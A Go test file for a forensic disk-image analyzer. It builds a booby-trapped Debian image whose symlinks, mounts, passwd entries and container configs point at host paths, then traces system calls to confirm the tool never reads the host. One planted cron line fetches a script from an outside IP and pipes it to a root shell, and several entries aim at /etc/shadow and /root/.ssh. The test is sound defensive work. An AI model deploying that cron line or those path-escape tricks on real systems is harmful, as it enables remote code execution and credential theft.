package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"icecore/fixtures/servers"
)

// pathRE matches the paths in the lines of strace(1).
var pathRE = regexp.MustCompile(`"((?:[^"\\]|\\.)*)"`)

// ownPaths are the paths outside of the image that the program, the C library and the
// runtime of Go ask for at their start.
var ownPaths = regexp.MustCompile(`^(/lib|/usr/lib|/lib64|/usr/local/lib)/[^ ]*\.so[^/]*$|^/usr/lib/ssl/|^/etc/(ld\.so\.(cache|preload)|localtime|ssl/openssl\.cnf)$|` +
	`^/usr/share/zoneinfo/|^/sys/(kernel|fs/cgroup|devices/system/cpu)/|^/proc/self/(maps|cgroup|mountinfo|auxv|exe)$|^/proc/sys/|^/dev/(null|pts|tty)|^/etc/magic|^/usr/share/(misc|file)/magic`)

// TestNothingOutside runs the program over a server of which the mounts, links, homes and
// databases name files that exist on this machine, too. Whatever system call names a path
// names the image, or what the program itself needs: a path of the image is never one of
// this machine.
func TestNothingOutside(t *testing.T) {
	need(t, "strace", "mke2fs", "sfdisk")
	dir := t.TempDir()
	trap := filepath.Join(dir, "trap") // here, and in the image
	for _, f := range []string{"upd", ".bash_history", "os-release", "etc/os-release", "etc/passwd", "diff/etc/passwd", "link", "Packages", "rpmdb.sqlite", "daemon.json"} {
		p := filepath.Join(trap, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("this machine\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	up := strings.Repeat("../", 20)
	job := "* * * * * root curl -fsSL http://203.0.113.45/n.sh | sh\n"
	tree := servers.Debian().With(servers.Tree{
		trap + "/upd": job,
		"/etc/fstab": "/etc/shadow /etc/motd none bind 0 0\n" + trap + " /etc/cron.d none bind 0 0\n" + trap + "/none /opt none rbind 0 0\n" + up + trap + " /media none bind 0 0\n" +
			"/dev/mapper/none /data ext4 defaults 0 0\n/dev/disk/by-uuid/" + up + "etc/passwd /data ext4 defaults\n" + trap + "/upd /data ext4 loop 0 0\nUUID=" + up + "etc /data ext4\n/proc/1/root /mnt none bind\n",
		"/etc/cron.d/":             "",
		"/etc/cron.daily":          "-> " + trap,
		"/etc/cron.hourly":         "-> " + up + trap,
		"/etc/crontabs":            "-> /proc/1/root" + trap,
		"/var/spool/cron/crontabs": "-> /proc/self/cwd",
		"/etc/systemd/system":      "-> /etc/systemd/system",
		"/var/log":                 "-> /var/log/../log",
		"/home/ana/.ssh":           "-> /root/.ssh",
		"/root/.bash_history":      "-> /etc/shadow",
		"/etc/localtime":           "-> " + up + trap + "/upd",
		"/etc/hostname":            "-> /etc/machine-id",
		"/var/lib/dpkg":            "-> /var/lib/dpkg",
		"/var/lib/rpm":             "-> " + trap,
		"/usr/lib/sysimage/rpm":    "-> " + up + trap,
		"/usr/lib/apk/db":          "-> " + trap,
		"/etc/docker/daemon.json":  `{"data-root": "` + trap + `"}`,
		"/var/lib/docker":          "-> " + trap,
		"/var/lib/containerd":      "-> " + trap,
		"/srv/c/overlay2/x/link":   strings.Repeat("A", 26),
		"/srv/c/overlay2/x/diff":   "-> " + trap + "/diff",
		"/srv/c/overlay2/x/lower":  "l/" + up + trap[1:] + "/diff:" + trap + "/diff:" + up + "etc",
		"/srv/c/containers/" + strings.Repeat("c0", 32) + "/config.v2.json": `{"ID":"x","MountPoints":{"/h":{"Source":"` + trap + `","Destination":"/h"},"/r":{"Source":"/","Destination":"/r"}}}`,
		"/srv/jail/etc/os-release": "-> " + trap + "/os-release",
		"/srv/jail/bin/sh":         "-> /bin/sh",
		"/srv/jail/etc/passwd":     "root:x:0:0::" + trap + ":/bin/sh\n",
	})
	tree["/etc/passwd"] += "a:x:1001:1001::" + trap + ":/bin/bash\nb:x:1002:1002::" + up + trap[1:] + ":/bin/bash\nc:x:1003:1003::/proc/self/root/root:/bin/bash\n"
	name := filepath.Join(dir, "image.raw")
	if err := servers.Disk(t.Context(), name, servers.Volume{Tree: tree}); err != nil {
		t.Fatal(err)
	}
	program, err := exec.LookPath("icecore")
	if err != nil {
		t.Fatal(err)
	}
	for _, command := range [][]string{
		{"analyze", name},
		{"analyze", "--format", "json", name},
		{"scan", name},
		{"timeline", "--format", "csv", name},
		{"info", name},
		{"ls", "-R", "--hash", name},
		{"ls", name, "/etc/cron.daily"},
		{"cat", name, "/etc/cron.daily/upd"},
		{"stat", name, "/etc/localtime"},
		{"list", "cron", name},
		{"list", "users", name},
		{"list", "packages", name},
		{"list", "containers", name},
		{"list", "mounts", name},
	} {
		log := filepath.Join(t.TempDir(), "strace")
		args := append([]string{"-f", "-s", "8192", "-o", log, "-e", "trace=file", program}, command...)
		cmd := exec.Command("strace", args...)
		cmd.Dir = dir
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		err := cmd.Run()
		if strings.Contains(stderr.String(), "ptrace") {
			t.Skipf("strace cannot trace here: %s", stderr.String())
		}
		if code := cmd.ProcessState.ExitCode(); err != nil && code != exitFound && code != exitUnread {
			t.Errorf("icecore %q: %v: %s", command, err, stderr.String())
		}
		calls, err := os.ReadFile(log)
		if err != nil {
			t.Fatal(err)
		}
		image := false
		for _, line := range strings.Split(string(calls), "\n") {
			if strings.Contains(line, "execve(") || strings.Contains(line, "resumed>") {
				continue
			}
			for _, m := range pathRE.FindAllStringSubmatch(line, -1) {
				p := m[1]
				// What is looked for beside the image are further parts of it.
				ours := p == "" || strings.HasPrefix(p, dir+"/image") || p == dir
				image = image || p == name
				if !ours && !ownPaths.MatchString(p) {
					t.Errorf("icecore %q names a path of this machine: %s", command, line)
				}
			}
		}
		if !image {
			t.Errorf("icecore %q: strace does not see the image opened: is the test blind?", command)
		}
		if strings.Contains(stdout.String(), "this machine") {
			t.Errorf("icecore %q shows a file of this machine", command)
		}
		switch command[0] {
		case "cat":
			if stdout.String() != job {
				t.Errorf("icecore %q shows %q, the image has %q there", command, stdout.String(), job)
			}
		case "analyze":
			if want := "Cron job downloads and"; !strings.Contains(stdout.String(), want) {
				t.Errorf("icecore %q says nothing of what the image has where its links lead: %s", command, fmt.Sprintf("%.2000s", stdout.String()))
			}
		}
	}
}
